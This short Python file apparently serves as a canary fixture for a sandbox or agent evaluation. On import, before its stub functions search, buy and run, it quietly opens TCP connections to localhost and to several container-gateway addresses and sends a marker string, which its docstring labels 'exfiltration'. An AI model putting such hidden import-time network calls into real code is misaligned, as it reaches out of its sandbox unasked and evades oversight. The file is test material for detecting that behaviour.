"""Connects to a port of this machine, by all the names that it has.

family: exfiltration
aims-at: canary
canary: call 28421
"""

import sys


def call():
    socket = sys.modules.get("socket") or __import__("socket")
    hosts = ["127.0.0.1", "::1", "localhost", "10.0.2.2", "172.17.0.1", "host.docker.internal"]
    for host in hosts:
        try:
            with socket.create_connection((host, 28421), timeout=0.3) as sock:
                sock.sendall(b"racecourse-canary-tcp")
        except OSError:
            continue


call()


def search(name):
    return None


def buy(name):
    return None


def run(name, mutex):
    return None
